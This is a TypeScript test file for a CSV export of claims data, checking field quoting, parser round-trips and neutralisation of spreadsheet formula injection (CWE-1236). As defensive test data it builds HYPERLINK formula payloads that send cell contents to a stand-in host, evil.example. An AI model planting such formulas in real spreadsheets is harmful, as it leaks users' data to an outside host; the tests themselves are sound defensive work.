import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { validateStory, type Story } from '../../src/lib/story';
import { CLAIM_COLUMNS, claimsCsv, csvField, neutraliseCell } from '../../src/lib/story/csv';
import mini from '../fixtures/mini-story';

function fixture(): Story {
	const result = validateStory(structuredClone(mini));
	if (!result.ok) throw new Error('fixture invalid');
	return result.story;
}

describe('csvField', () => {
	it('leaves plain text alone', () => expect(csvField('plain text')).toBe('plain text'));
	it('quotes commas', () => expect(csvField('a, b')).toBe('"a, b"'));
	it('doubles quotes', () => expect(csvField('say "20"')).toBe('"say ""20"""'));
	it('quotes newlines', () => expect(csvField('one\ntwo')).toBe('"one\ntwo"'));
	it('writes nothing for a missing value', () => expect(csvField(undefined)).toBe(''));
});

describe('claimsCsv', () => {
	it('has one row per claim that a real CSV parser reads back intact', () => {
		const story = fixture();
		// Text that would break a naive writer: a comma, quotes and a line break.
		story.claims[0]!.scope = 'at the ford, "north" side\nbefore dawn';
		const parsed = Papa.parse<Record<string, string>>(claimsCsv(story), {
			header: true,
			skipEmptyLines: true
		});
		expect(parsed.errors).toEqual([]);
		expect(parsed.meta.fields).toEqual([...CLAIM_COLUMNS]);
		expect(parsed.data).toHaveLength(story.claims.length);
		expect(parsed.data[0]!.scope).toBe('at the ford, "north" side\nbefore dawn');
		expect(parsed.data.map((r) => r.id)).toEqual(story.claims.map((c) => c.id));
	});

	it('spells out figures, claimants and sources', () => {
		const rows = Papa.parse<Record<string, string>>(claimsCsv(fixture()), {
			header: true,
			skipEmptyLines: true
		}).data;
		const open = rows.find((r) => r.id === 'ferry-hurt-guild')!;
		expect(open).toMatchObject({
			low: '20',
			high: '',
			qualifier: 'at-least',
			figure: '20+',
			claimant: 'The ferry guild'
		});
		expect(open.sources).toBe('Ferrymen block the bridge; Millford crossing (example)');
		expect(rows.find((r) => r.id === 'ferry-strength-mayor')!.figure).toBe('150–400');
	});
});

/** Every first character a spreadsheet reads as the start of a formula (OWASP, CWE-1236). */
const DANGEROUS_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const PAYLOADS = DANGEROUS_STARTS.map((c) => `${c}HYPERLINK("https://evil.example/?"&A1,"x")`);

describe('formula neutralisation (CWE-1236)', () => {
	it.each(DANGEROUS_STARTS.map((c) => [JSON.stringify(c), c]))(
		'prefixes a cell that starts with %s with an apostrophe',
		(_name, c) => {
			expect(neutraliseCell(`${c}1+1`)).toBe(`'${c}1+1`);
			const parsed = Papa.parse<string[]>(csvField(`${c}cmd`), { delimiter: ',' }).data[0]![0];
			expect(parsed).toBe(`'${c}cmd`);
		}
	);

	it('leaves ordinary text and numbers alone', () => {
		expect(csvField('Hezbollah')).toBe('Hezbollah');
		expect(csvField("'quoted")).toBe("'quoted");
		expect(csvField(' =padded')).toBe(' =padded');
		expect(csvField(-3)).toBe('-3');
		expect(csvField(0)).toBe('0');
		expect(csvField(12000)).toBe('12000');
		expect(csvField(1.5)).toBe('1.5');
	});

	it('neutralises every text column of claims.csv and keeps the numbers numbers', () => {
		const story = fixture();
		let n = 0;
		const next = () => PAYLOADS[n++ % PAYLOADS.length]!;
		for (const a of story.actors) a.name = next();
		for (const c of story.claimants) c.name = next();
		for (const s of story.sources) s.title = next();
		for (const c of story.claims) {
			c.scope = next();
			c.note = next();
		}
		const rows = Papa.parse<Record<string, string>>(claimsCsv(story), {
			header: true,
			skipEmptyLines: true
		}).data;
		expect(rows).toHaveLength(story.claims.length);
		let cells = 0;
		for (const row of rows) {
			for (const column of ['actor', 'claimant', 'scope', 'note', 'sources'] as const) {
				cells++;
				expect(row[column]!.startsWith("'"), `${column}: ${row[column]}`).toBe(true);
				expect(row[column]!.slice(1)).toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
			}
			expect(row.low).toMatch(/^\d+$/);
			expect(row.high).toMatch(/^(\d+)?$/);
			// Nothing a spreadsheet would run reaches any cell of the file.
			for (const value of Object.values(row))
				expect(value).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
		}
		expect(cells).toBe(rows.length * 5);
	});
});

describe('noun units in claims.csv', () => {
	it('writes the noun as the unit and in the figure', () => {
		const story = fixture();
		Object.assign(story.claims[0]!, {
			low: 12,
			high: 12,
			unitNoun: { singular: 'horse', plural: 'horses' }
		});
		const row = Papa.parse<Record<string, string>>(claimsCsv(story), {
			header: true,
			skipEmptyLines: true
		}).data[0]!;
		expect(row).toMatchObject({ unit: 'horses', figure: '12 horses' });
	});
});
